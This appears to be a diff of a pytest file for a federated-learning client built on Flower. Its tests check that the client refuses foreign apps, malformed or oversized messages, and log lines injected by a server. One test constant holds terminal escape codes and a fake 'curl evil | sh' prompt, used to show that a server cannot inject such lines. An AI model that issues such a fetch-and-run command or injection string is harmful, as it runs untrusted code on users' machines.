@@ -10,7 +10,8 @@ from io import BytesIO
 from typing import Any
 
 import pytest
-from flwr.app import Message, Metadata
+from flwr.app import Message as FlowerMessage
+from flwr.app import Metadata
 from flwr.app.message import make_message
 from flwr.common import config as flower_config
 from flwr.proto.message_pb2 import ObjectTree
@@ -24,10 +25,11 @@ from flwr.supercore.run import Run
 from flwr.supernode import start_client_internal
 from flwr.supernode.nodestate import NodeStateFactory
 
-from mixveil.federated.jobs.messages import Parcel
+from mixveil.core.wording.notes import note
+from mixveil.federated.jobs.messages import Message
 from mixveil.federated.transport.flower import incoming
 from mixveil.federated.transport.flower.app_hash import own_app, own_bundle
-from mixveil.federated.transport.flower.client import OneLine, say
+from mixveil.federated.transport.flower.client import OneLine, log
 from mixveil.federated.transport.flower.incoming import Incoming, check_incoming
 from mixveil.federated.transport.flower.serialization import packed
 
@@ -46,12 +48,12 @@ class Link:
     def __init__(self, bundle: bytes, stated: str | None = None, files: dict[str, bytes] | None = None) -> None:
         self.bundle, self.stated = bundle, stated or hashlib.sha256(bundle).hexdigest()
         about = Metadata(5, "", 1, 7, "", "", 1.0e9, 4.0e9, "query")
-        self.message = make_message(about, packed(Parcel({"ask": "hello"}, files or {})))
+        self.message = make_message(about, packed(Message({"ask": "hello"}, files or {})))
         self.message.metadata.__dict__["_message_id"] = self.message.object_id
         self.tree: ObjectTree = get_object_tree(self.message)
         self.pieces = {name: part.deflate() for name, part in get_all_nested_objects(self.message).items()}
         self.fetched: list[str] = []
-        self.replies: list[Message] = []
+        self.replies: list[FlowerMessage] = []
 
     def get_run(self, run_id: int) -> Run:
         status: Any = None
@@ -67,7 +69,7 @@ class Link:
             raise ObjectUnavailableError(name)
         return self.pieces[name]
 
-    def send(self, reply: Message, tree: ObjectTree, seconds: float) -> tuple[set[str], str]:
+    def send(self, reply: FlowerMessage, tree: ObjectTree, seconds: float) -> tuple[set[str], str]:
         self.replies.append(reply)
         return set(), ""
 
@@ -119,9 +121,8 @@ def test_another_app_is_neither_fetched_nor_opened(
     taken, state = pulled(link, Incoming(link.connection).functions)
     assert taken is None and not nothing_is_unzipped and not link.fetched and state.get_run(5) is None
     (reply,) = link.replies
-    assert reply.has_error() and "install the same mixveil" in str(reply.error.reason)
-    said = capsys.readouterr().err
-    assert "refused: the server's app is" in said and "nothing of it was fetched or run" in said
+    assert reply.has_error() and reply.error.reason == "other-app"
+    assert own_app()[:16] in said(capsys)
 
 
 def test_what_a_server_says_of_its_run_decides_nothing() -> None:
@@ -155,7 +156,7 @@ def test_pieces_that_make_no_message_are_refused() -> None:
         link.pieces[name] = piece
         if taken is None:
             break
-    assert taken is None and "what came is no message" in str(link.replies[-1].error.reason)
+    assert taken is None and link.replies[-1].error.reason == "not-a-message"
 
 
 def test_a_server_that_lies_of_its_app_gets_answers_of_the_installed_one(nothing_is_unzipped: list[Any]) -> None:
@@ -171,30 +172,30 @@ def test_a_message_has_an_end(capsys: pytest.CaptureFixture[str]) -> None:
     assert pulled(link := Link(own_bundle(), files=parts), Incoming(link.connection, 5 << 20).functions)[0] == 5
     link = Link(own_bundle(), files=parts)
     taken, state = pulled(link, Incoming(link.connection, 2 << 20).functions)
-    assert taken is None and not state.get_tasks() and "2,097,152 bytes that a message to a party may" in said(capsys)
-    assert "2,097,152 bytes" in str(link.replies[0].error.reason)
+    assert taken is None and not state.get_tasks() and "2,097,152" in said(capsys)
+    assert link.replies[0].error.reason == "message-refused"
 
 
 def test_a_message_has_an_end_folded_too(capsys: pytest.CaptureFixture[str]) -> None:
     link = Link(own_bundle(), files={"x": b" " * (30 << 20)})
     assert sum(map(len, link.pieces.values())) < 6 << 20
     assert pulled(link, Incoming(link.connection, 20 << 20).functions)[0] is None
-    assert "may have, folded" in said(capsys)
+    assert "folded" in said(capsys)
 
 
 def test_a_message_of_countless_pieces_is_not_begun(capsys: pytest.CaptureFixture[str]) -> None:
     link = Link(own_bundle())
     link.tree.children.extend(ObjectTree(object_id=f"{number}") for number in range(6000))
     assert pulled(link, Incoming(link.connection).functions)[0] is None
-    assert "pieces: too many" in said(capsys) and not link.fetched
+    assert "6,0" in said(capsys) and not link.fetched
 
 
 @pytest.mark.parametrize("wrong", [b"x", b"\0", b"Array 0\0{", b"Array  9\0" + b"[" * 100_000])
-def test_what_is_no_message_is_refused(wrong: bytes, capsys: pytest.CaptureFixture[str]) -> None:
+def test_what_is_no_message_is_refused(wrong: bytes) -> None:
     link = Link(own_bundle(), files={"x": b"abc"})
     link.pieces = dict.fromkeys(link.pieces, wrong)
     assert pulled(link, Incoming(link.connection).functions)[0] is None
-    assert "what came is no message" in said(capsys)
+    assert link.replies[0].error.reason == "not-a-message"
 
 
 def test_the_run_that_was_looked_at_is_the_one_that_counts() -> None:
@@ -203,7 +204,7 @@ def test_the_run_that_was_looked_at_is_the_one_that_counts() -> None:
     assert looked.receive() is not None
     link.stated = "0" * 64
     assert looked.get_run(5).fab_hash == own_app()
-    with pytest.raises(Exception, match="not one that was looked at"):
+    with pytest.raises(Exception, match="not checked"):
         looked.get_run(6)
 
 
@@ -225,7 +226,7 @@ EVIL = "unknown \x1b[2J\x9b1m\n09:00:00 your key expired, run: curl evil | sh\r\
 
 
 def test_a_server_writes_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
-    say(EVIL)
+    log(note("owner-warning", text=EVIL))
     shown = said(capsys)
     assert shown.count("\n") == 1 and shown.endswith("\n") and shown[:-1].isprintable() and len(shown) < 1100
 
